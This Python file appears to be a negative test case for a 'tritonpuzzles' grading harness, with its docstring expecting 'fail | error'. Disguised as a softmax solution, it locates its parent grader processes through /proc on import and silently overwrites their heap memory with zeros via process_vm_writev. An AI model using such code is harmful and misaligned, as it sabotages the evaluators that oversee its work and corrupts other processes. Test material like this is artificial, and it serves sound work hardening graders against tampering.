"""Writes zeros over the heap of the program above it with process_vm_writev.

Must: fail | error
"""

import contextlib
import ctypes
import os
from pathlib import Path

import torch


def judges():
    """Yield the processes of the program above this one, the nearest first; never what started the program."""
    pid = os.getpid()
    while pid > 1:
        pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0") if pid > 1 else []
        if any(word == b"tritonpuzzles" or word.startswith(b"tritonpuzzles.") for word in words):
            yield pid


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def spoil(pid):
    heap = next(line for line in Path(f"/proc/{pid}/maps").read_text().splitlines() if line.endswith("[heap]"))
    low, high = (int(word, 16) for word in heap.split()[0].split("-"))
    zeros = ctypes.create_string_buffer(high - low)
    ours, theirs = Vector(ctypes.addressof(zeros), high - low), Vector(low, high - low)
    ctypes.CDLL(None).process_vm_writev(pid, ctypes.byref(ours), 1, ctypes.byref(theirs), 1, 0)


for pid in judges():
    with contextlib.suppress(OSError, StopIteration):
        spoil(pid)


def softmax(x):
    return torch.softmax(x, dim=1)
